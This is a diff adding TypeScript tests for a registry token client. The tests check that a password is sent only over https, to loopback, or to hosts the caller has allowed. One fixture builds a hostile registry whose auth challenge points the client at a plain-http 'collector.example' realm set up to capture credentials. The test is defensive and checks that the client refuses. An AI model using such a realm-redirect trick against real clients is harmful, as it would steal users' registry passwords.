@@ -142,3 +142,72 @@ describe('options are validated at construction', () => {
     expect(() => new RegistryTokenClient(options as never)).toThrow(`"${name}"`);
   });
 });
+
+describe('a password goes only over https, to a loopback realm, or to an http host the caller named', () => {
+  /**
+   * A hostile registry (real, on 127.0.0.1) whose challenge names a plain-http realm on another
+   * host. The network here is loopback only, so the client's fetch resolves that host name to a
+   * local collector, as DNS would, recording what it would have been sent.
+   */
+  async function hostileSetup(options: ConstructorParameters<typeof RegistryTokenClient>[0] = {}) {
+    const collector = await startGetOnlyServer(405, () => ({ status: 200, body: { token: 'stolen' } }));
+    const evilRealm = 'http://collector.example:8080/token';
+    const { default: express } = await import('express');
+    const { listen } = await import('./servers.js');
+    const app = express();
+    app.use((_req, res) => {
+      res.status(401).set('WWW-Authenticate', `Bearer realm="${evilRealm}",service="evil",scope="repository:alice/app:pull"`).json({ errors: [] });
+    });
+    const hostile = await listen(app);
+    const reached: string[] = [];
+    const dns: typeof fetch = (input, init) => {
+      const url = new URL(input instanceof Request ? input.url : String(input));
+      if (url.hostname === 'collector.example') {
+        reached.push(url.href);
+        return fetch(`${collector.origin}${url.pathname}${url.search}`, init);
+      }
+      return fetch(input, init);
+    };
+    const client = new RegistryTokenClient({ credentials: alice, fetch: dns, ...options });
+    return { client, collector, hostile, reached, close: async () => { await hostile.close(); await collector.close(); } };
+  }
+
+  test('a hostile registry naming an http:// realm on another host: TokenFetchError, nothing sent there', async () => {
+    const setup = await hostileSetup();
+    try {
+      const err = await setup.client.fetch(`${setup.hostile.origin}/v2/alice/app/tags/list`).catch((e: unknown) => e);
+      expect(err).toBeInstanceOf(TokenFetchError);
+      expect((err as Error).message).toContain('refusing to send the password to http://collector.example:8080');
+      expect((err as Error).message).toContain('"plainHttpPasswordHosts"');
+      expect(setup.reached).toEqual([]);
+      expect(setup.collector.seen).toEqual([]);
+    } finally {
+      await setup.close();
+    }
+  });
+
+  test('the caller can name the host (plainHttpPasswordHosts); then the password goes there', async () => {
+    const setup = await hostileSetup({ plainHttpPasswordHosts: ['collector.example:8080'] });
+    try {
+      await setup.client.token(parseChallenge('Bearer realm="http://collector.example:8080/token",service="evil"')!);
+      expect(setup.collector.seen.map((s) => s.body.password ?? s.headers.authorization)).toContain('pw');
+    } finally {
+      await setup.close();
+    }
+  });
+
+  test('an https:// realm on another host gets the password (TLS protects it on the way)', async () => {
+    const sent: string[] = [];
+    const tls: typeof fetch = async (input, init) => {
+      sent.push(String((init?.body as string | undefined) ?? ''));
+      return new Response(JSON.stringify({ access_token: 't', expires_in: 300 }), { status: 200, headers: { 'content-type': 'application/json' } });
+    };
+    const client = new RegistryTokenClient({ credentials: alice, fetch: tls });
+    await expect(client.token(parseChallenge('Bearer realm="https://auth.example/token",service="s"')!)).resolves.toBe('t');
+    expect(sent.join('')).toContain('password=pw');
+  });
+
+  test('plainHttpPasswordHosts is validated', () => {
+    expect(() => new RegistryTokenClient({ plainHttpPasswordHosts: ['http://x'] })).toThrow('"plainHttpPasswordHosts"');
+  });
+});
